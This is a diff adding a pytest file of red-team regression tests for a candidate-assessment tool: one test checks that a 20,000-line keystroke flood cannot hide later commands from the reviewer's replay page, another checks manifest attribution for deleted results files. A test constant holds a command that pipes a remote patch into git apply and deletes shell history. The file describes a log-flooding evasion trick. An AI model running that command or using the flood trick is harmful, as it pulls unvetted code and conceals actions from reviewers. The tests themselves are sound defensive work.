@@ -1,0 +1,108 @@
+"""Red team 16f: this round's newest fixes to attempts, resume and the hiring scorecard (red teams 16b, 16c):
+`typed_lines(limit)` / `recorder.COMMANDS_MAX`, manifests matched by `samefile` or a vanished file,
+`set_aside`, `next_attempt`, `pack_attempts`' cut sessions.
+
+Each test is written to fail while the attack works and to pass once it is defended; controls keep honest
+behaviour working. No Docker.
+"""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from test_assess import bundle
+from test_attacks_redteam15c import cli
+from test_attacks_redteam16c import result
+from test_report_properties import record
+
+from sweserve.assess.agent import CAST_FILE
+from sweserve.assess.recorder import COMMANDS_MAX, CastWriter, commands_from_cast
+from sweserve.assess.scorecard import replay_page
+
+# ---- R16f-1: 20,000 one-key lines first push every real command off the commands-typed list
+
+CHEAT = "curl -s http://paste.example/fix.diff | git apply && rm -f ~/.bash_history"
+
+
+def _flooded_cast(folder):
+    """The candidate's browser sends "a⏎" 20,000 times over the websocket (40 KB, far inside every budget: the
+    cast's 64 MiB, the key record's 256 KiB), then works: fetches a fix and applies it."""
+    cast = CastWriter(folder / CAST_FILE, 80, 24)
+    cast.event("i", "stty -echo; cat >/dev/null\r")
+    cast.event("i", "a\r" * COMMANDS_MAX)
+    cast.event("i", "\x03")  # ^C out of cat
+    cast.event("i", "stty echo\r")
+    cast.event("i", CHEAT + "\r")
+    cast.close()
+    return folder / CAST_FILE
+
+
+def test_r16f_1_a_flood_of_one_key_lines_does_not_hide_the_commands_typed_after_it(tmp_path):
+    """R16c-1's bound keeps the first 20,000 entries and counts the rest. 40 KB of "a⏎" fills it, and every
+    command typed after it (the whole of the real work: here the fetched patch and the history wiped) is in
+    neither the replay page's commands-typed table nor `AgentRun.transcript`; the reviewer sees 20,000 rows of
+    `a` and, below them, a count. The scorecard itself says nothing. A bound that an attacker fills for free
+    with entries of its choosing must not decide which commands the reviewer reads: identical consecutive
+    entries can be folded into one (`a ⟨×20,000⟩`), and the last entries kept as well as the first."""
+    cast = _flooded_cast(tmp_path / "trial")
+    listed = [c for _, c in commands_from_cast(cast)]
+    assert len(listed) <= COMMANDS_MAX + 2  # still bounded (R16c-1)
+    assert any(CHEAT in c for c in listed), "the command typed after the flood is on no list the reviewer reads"
+    page = replay_page("mallory", result("human-mallory", bundle(1), "resolved", 60, trial_dir=str(cast.parent)))
+    assert "curl -s http://paste.example/fix.diff" in page
+
+
+def test_r16f_1_control_a_long_honest_session_keeps_its_first_commands_and_says_how_many_more(tmp_path):
+    folder = tmp_path / "trial"
+    cast = CastWriter(folder / CAST_FILE, 80, 24)
+    for i in range(COMMANDS_MAX + 500):
+        cast.event("i", f"echo {i}\r")
+    cast.close()
+    listed = [c for _, c in commands_from_cast(folder / CAST_FILE)]
+    assert len(listed) <= COMMANDS_MAX + 2
+    assert listed[0] == "echo 0" and "echo 1000" in listed
+    assert any("not listed here" in c for c in listed)
+
+
+# ---- R16f-2: a deleted scratch results file's manifest is charged to every other file in the folder
+
+def _write_manifest(root, run_id, tasks, results, attempts=1):
+    path = root / "runs" / run_id / "manifest.json"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(json.dumps({
+        "run_id": run_id, "started_at": "2026-12-01T00:00:00+00:00", "agent": "a", "results": results,
+        "agent_config_hash": "h", "attempts": attempts, "per_task": {}, "tasks": {t: "h" for t in tasks},
+        "families": {t: "decoding" for t in tasks}, "unready": []}))
+
+
+def test_r16f_2_a_deleted_scratch_files_manifest_is_not_charged_to_another_results_file(tmp_path):
+    """R16b-3 reads a manifest whose results file is gone as naming none (so a renamed file keeps its runs). A
+    vanished file is as often a deleted one: the team tries agent `a` with `--output results/scratch.jsonl
+    --attempts 5` on ten tasks, deletes scratch.jsonl, and runs the real evaluation into results/a.jsonl (one
+    task, resolved). `report results/a.jsonl` now charges the scratch run to it: ten tasks selected five times
+    each, 49 attempts `missing`, pass@1 10% where the file holds one resolved attempt of the one task its run
+    selected. A results file's report must count the runs that wrote it (a renamed file: its inode, or its own
+    records' run ids), not every run whose file is gone."""
+    out = tmp_path / "results"
+    out.mkdir()
+    _write_manifest(out, "S", [f"o__r-{i}" for i in range(1, 11)], "scratch.jsonl", attempts=5)
+    _write_manifest(out, "R", ["o__r-1"], "a.jsonl")
+    (out / "a.jsonl").write_text(record("o__r-1", "resolved", run_id="R").model_dump_json() + "\n")
+    proc = cli("report", str(out / "a.jsonl"), "--json", cwd=tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    (rep,) = json.loads(proc.stdout)
+    assert rep["statuses"].get("missing", 0) == 0
+    assert rep["overall"]["pass_at_1"] == pytest.approx(1.0)
+
+
+def test_r16f_2_control_a_renamed_file_still_counts_its_killed_runs_missing_tasks(tmp_path):
+    """R16b-3's case, kept: the run R wrote a.jsonl, was killed after one of three tasks, and a.jsonl was renamed."""
+    out = tmp_path / "results"
+    out.mkdir()
+    _write_manifest(out, "R", ["o__r-1", "o__r-2", "o__r-3"], "a.jsonl")
+    (out / "a-2026-12.jsonl").write_text(record("o__r-1", "resolved", run_id="R").model_dump_json() + "\n")
+    proc = cli("report", str(out / "a-2026-12.jsonl"), "--json", cwd=tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    (rep,) = json.loads(proc.stdout)
+    assert rep["statuses"]["missing"] == 2
